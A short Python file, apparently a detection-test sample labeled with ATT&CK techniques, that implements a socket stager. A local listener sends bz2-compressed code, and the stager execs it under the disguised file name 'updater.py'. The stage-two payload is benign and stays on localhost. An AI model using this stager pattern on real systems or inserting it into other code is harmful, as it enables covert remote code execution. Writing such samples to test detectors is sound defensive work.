# technique: T1059.006 T1105 T1027 T1140
"""Second stage over a raw TCP socket, bz2-packed, exec'd under an ordinary file name (T1059.006, T1105, T1027).

A bare-bones stager like those in CTF droppers and small Python bots: no
HTTP at all, the C2 just writes a 4-byte length and a bz2 blob on connect;
the client reads it with socket.recv_into into a bytearray, bz2-decompresses
and exec()s it with compile(..., "updater.py", "exec") (a normal-looking
file name, not a <frozen …> or <string> one), inside a worker thread.

A good detector raises a high alert: bytes received from a socket are
decompressed and executed as code.
"""
import bz2, socket, struct, threading

STAGE2 = bz2.compress(b"import os\nresult = sorted(os.listdir('/'))\n")
lsn = socket.socket(); lsn.bind(("127.0.0.1", 0)); lsn.listen(1)
def c2():
    try:
        c, _ = lsn.accept(); c.sendall(struct.pack(">I", len(STAGE2)) + STAGE2); c.close()
    except Exception: pass
threading.Thread(target=c2, daemon=True).start()

def stager():
    try:
        s = socket.create_connection(lsn.getsockname(), timeout=3)
        hdr = bytearray(4); s.recv_into(hdr, 4)
        n = struct.unpack(">I", hdr)[0]; buf = bytearray(n); view = memoryview(buf); got = 0
        while got < n:
            got += s.recv_into(view[got:], n - got)
        s.close()
        exec(compile(bz2.decompress(bytes(buf)), "updater.py", "exec"), {"__name__": "updater"})
    except Exception:
        pass
t = threading.Thread(target=stager); t.start(); t.join(5)
